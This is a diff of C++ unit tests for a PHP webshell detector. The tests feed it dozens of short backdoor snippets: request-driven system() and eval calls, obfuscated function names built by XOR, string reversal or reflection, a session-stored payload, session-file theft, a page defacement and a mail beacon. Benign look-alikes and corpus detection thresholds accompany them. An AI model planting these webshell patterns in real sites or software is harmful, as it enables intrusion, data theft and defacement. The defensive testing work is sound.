@@ -51,6 +51,17 @@ TEST(PhpLexer, ReadsWhatPhpReads) {
   PhpLex cut = php_lex("<?php " + std::string(10000, ';'), 100);
   EXPECT_TRUE(cut.truncated);
   EXPECT_EQ(cut.tokens.size(), 100u);
+  EXPECT_TRUE(cut.rest_inert);  // ';' after ';' runs nothing
+  // Past the budget the rest is still read: data is inert, a call is not.
+  std::string table = "<?php $t = array(";
+  for (int i = 0; i < 200; ++i) table += std::to_string(i) + "=>array(1,-2,'x'),";
+  EXPECT_TRUE(php_lex(table + ");", 100).rest_inert);
+  EXPECT_FALSE(php_lex(table + "); system($_GET['c']);", 100).rest_inert);
+  EXPECT_FALSE(php_lex(table + "); ('sys'.'tem')('id');", 100).rest_inert);
+  EXPECT_FALSE(php_lex(table + "\"{${`id`}}\");", 100).rest_inert);
+  EXPECT_TRUE(php_lex(table + "); $cw = array(1 => 2);", 100).rest_inert);  // a font's tables
+  EXPECT_FALSE(php_lex(table + "); $f = 'system'; $f('id');", 100).rest_inert);
+  EXPECT_FALSE(php_lex("<?php while (1) {" + table.substr(6) + "); $f = 'x'; }", 100).rest_inert);
   EXPECT_FALSE(php_lex("GIF89a no code here", 100).has_php);
 }
 
@@ -141,6 +152,44 @@ TEST(ShellJudge, FindsEachWayAShellRunsWhatTheRequestSays) {
        "handed to b, which runs it"},
       {"<?php $x = ('a' ^ \"\\0\") . ('s' ^ \"\\0\") . 'sert'; $x($_POST['c']);",
        "holding its name (assert)"},
+      // register_globals rebuilt by hand, then a variable the request named called
+      {"<?php foreach (array('_POST', '_GET') as $r) { foreach ($$r as $k => $v) { $$k = $v; } }"
+       " $f($c);",
+       "variables named by the request"},
+      // a class whose constructor runs its parameters, built through reflection
+      {"<?php class T { function __construct($a, $b) { $a($b); } } $c = new ReflectionClass('T');"
+       " $c->newInstance($_POST['f'], $_POST['x']);",
+       "constructor that runs it"},
+      {"<?php $_ = $POST; $__ = 'x'; $_($__);", "named to be unreadable"},
+      {"<?php $f = $k ^ hex2bin('12101f040107'); "
+       "array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), $f);",
+       "callback whose name is decoded"},
+      {"<?php $a = join(array_diff(['s', 'a', 'ys', 'tem'], ['a'])); "
+       "Closure::fromCallable($a)->__invoke($_REQUEST[2]);",
+       "made a closure"},
+      {"<?php class B { var $shell; function run() { system($this->shell); } } $b = new B(); "
+       "$b->shell = $_REQUEST['shell']; $b->run();",
+       "command execution with request input (system)"},
+      {"<?php $q = $_GET[1]; file_get_contents('php' . $q)($_GET[2]);", "returns for the request"},
+      {"<?php file_put_contents($_COOKIE['p'], base64_decode(file_get_contents('/tmp/x')));",
+       "written with decoded data"},
+      // Godzilla: a payload decoded by the file's own function, kept in the session, run later
+      {"<?php session_start(); function O($d) { return base64_decode($d); } "
+       "if (isset($_SESSION['p'])) { $a = explode('|', $_SESSION['p']); "
+       "class C { function nvoke($p) { eval($p . ''); } } $r = new C(); $r->nvoke($a[0]); } "
+       "else { $_SESSION['p'] = O($_POST['k']); }",
+       "decoded data passed to a method that runs it"},
+      {"<?php $x = ${f('(]A+%')}($c); function f($s) { return strrev($s); }", "named by a decoder"},
+      {"<?php $g = $m('', $code); $g('');", "made at run time"},
+      {"<?php preg_replace(chr(47) . $p . chr(47) . chr(101), $_POST['c'], $p);", "chr(101)"},
+      {"<?php $fp = fopen('index.php', 'w'); fputs($fp, 'HACKed by X');", "front page"},
+      {"<?php $d = opendir('/tmp'); while ($f = readdir($d)) if ($f > 'sess_') "
+       "echo file_get_contents('/tmp/' . $f);",
+       "session theft"},
+      {"<?php mail('x@example.net', 'hi', $_SERVER['DOCUMENT_ROOT'] . $_SERVER['SCRIPT_FILENAME']"
+       " . $_SERVER['SERVER_ADDR']);",
+       "reporting in"},
+      {"<?php $c = fsockopen('127.0.0.1', $p); fputs($c, 'SITE EXEC ' . $cmd);", "SITE EXEC"},
   };
   for (const auto& [code, why] : shells) {
     ShellVerdict v = judge_php(code, "x.php");
@@ -196,8 +245,39 @@ TEST(ShellJudge, LeavesAlonePhpThatOnlyLooksDangerous) {
            "socket_listen($s);",
            "<?php call_user_func([$this, 'do_' . $_GET['action']]);",
            "<?php $log = function ($m) { error_log($m . $_GET['page']); }; $log('visit');",
+           // a variable is its function's: $cmd from the request in one method is not the
+           // $cmd another method runs
+           "<?php class A { function a() { $cmd = $_GET['c']; echo $cmd; } "
+           "function b() { $cmd = 'uptime'; system($cmd); } }",
+           // assertions, not code: PHP 8 never runs assert's argument
+           "<?php function f($url) { assert(is_string($url)); return $_REQUEST['u'] ?? $url; }",
+           // an object from the container, called; a decoder chosen by name
+           "<?php $c = $container->get($_GET['route']); $c($request);",
+           "<?php $decoder = 'urldecode'; $v = $decoder($_GET['v']); echo htmlspecialchars($v);",
+           "<?php $tc = new TableController($db); echo $tc(['db' => $_GET['db']]);",
+           // preg_replace with ' as delimiter and a pattern that ends in </pre>
+           "<?php $h = preg_replace(\"'<xre([^>]*)>(.*?)</pre>'si\", '<pre>', $h);",
+           // the server's name for an upload is not the request's
+           "<?php $f = $_FILES['f']['tmp_name']; $s = file_get_contents($f); "
+           "file_put_contents(sys_get_temp_dir() . '/x', $s);",
+           // an application reading its own sessions, from session_save_path()
+           "<?php $d = opendir(session_save_path()); while ($f = readdir($d)) "
+           "if (strpos($f, 'sess_') === 0) echo filesize($f);",
+           // array_unique and array_unshift take no callback
+           "<?php $a = base64_decode($x); $b = array_unique($a); "
+           "array_unshift($b, $_POST['first']);",
        })
     EXPECT_FALSE(judge_php(code, "x.php").suspect()) << code;
+  // Documentation with a PHP example: after "<?php" comes prose, which PHP would refuse.
+  std::string doc = "Edit config.inc.php:\n\n  <?php\n  $cfg['x'] = true;\n\n";
+  for (int i = 0; i < 10; ++i)
+    doc +=
+        "You can include additional themes by using Docker volumes and `docker run` with "
+        "the path to eval them from $_GET before the system starts.\n";
+  EXPECT_FALSE(judge_php(doc, "setup.rst.txt").suspect());
+  // Bytes of a picture that happen to read "<?=", far into it.
+  std::string png = "\x89PNG\r\n" + std::string(2000, 'A') + "<?= \xc3\x28`x` \xff\xfe";
+  EXPECT_FALSE(judge_php(png, "8.png").suspect());
 }
 
 // The DEV corpus (../shared/corpus/webshell): real shells and backdoors.
@@ -207,6 +287,16 @@ TEST(ShellJudge, WhatCannotBeJudgedWholeIsNotLetThrough) {
       judge_php("<?php " + std::string(450000, ';') + " system($_GET['c']);", "x.php");
   EXPECT_TRUE(padded.truncated);
   EXPECT_TRUE(padded.suspect());
+  // A data table longer than the budget (a font's widths, a list of domains) is judged on its
+  // start, and its rest is nothing that could run.
+  std::string table = "<?php $cw = array(";
+  for (int i = 0; i < 120000; ++i)
+    table += std::to_string(i) + "=>" + std::to_string(i % 900) + ",";
+  table += ");";
+  ShellVerdict font = judge_php(table, "cid0kr.php");
+  EXPECT_TRUE(font.truncated);
+  EXPECT_FALSE(font.suspect());
+  EXPECT_TRUE(judge_php(table + " eval($_POST['x']);", "cid0kr.php").suspect());
   std::string costly = "<?php ";
   for (int i = 0; i < 60000; ++i) costly += "$a=";
   costly += "1;";
@@ -228,7 +318,7 @@ TEST(ShellJudge, FindsTheDevCorpusShells) {
   }
   ASSERT_EQ(n, 588u);
   // The share found today (docs/web.md); this fails if it drops.
-  EXPECT_GE(found * 100, n * 88) << found << " of " << n;  // 522 on 2026-12-03
+  EXPECT_GE(found * 100, n * 95) << found << " of " << n;  // 559 on 2026-12-03
 }
 
 // Debian's WordPress (unpacked by scripts/install-deps.sh --test): clean code, none flagged.
@@ -246,6 +336,28 @@ TEST(ShellJudge, FlagsNothingInDebiansWordPress) {
   }
   EXPECT_GT(n, 900u);
   EXPECT_TRUE(flagged.empty()) << flagged.size() << " flagged, e.g. " << flagged.front();
+}
+
+// PHP applications Debian ships (phpMyAdmin, MediaWiki, DokuWiki, Roundcube, Zabbix, Symfony,
+// Guzzle, Twig, TCPDF … unpacked by scripts/install-deps.sh --test): at most 0.1 % flagged. What
+// is flagged today runs request input as code or SQL on purpose (Zabbix's validation evals an
+// expression holding request keys; getID3's demo runs the SQL its form sends).
+TEST(ShellJudge, FlagsAlmostNothingInDebiansPhpApplications) {
+  const fs::path dir = fs::path(MAMORI_SOURCE_DIR) / ".cache/cleanphp";
+  if (!fs::exists(dir / ".complete"))
+    GTEST_FAIL() << dir << " is needed: run scripts/install-deps.sh --test";
+  size_t n = 0;
+  std::vector<std::string> flagged;
+  for (const auto& e : fs::recursive_directory_iterator(dir)) {
+    if (!e.is_regular_file() || e.path().extension() != ".php") continue;
+    ++n;
+    if (judge_php(slurp(e.path()), e.path().string()).suspect())
+      flagged.push_back(e.path().string());
+  }
+  EXPECT_GT(n, 9000u);
+  std::string list;
+  for (const auto& f : flagged) list += "\n  " + f;
+  EXPECT_LE(flagged.size() * 1000, n) << flagged.size() << " of " << n << " flagged:" << list;
 }
 
 class WebScanTree : public ::testing::Test {
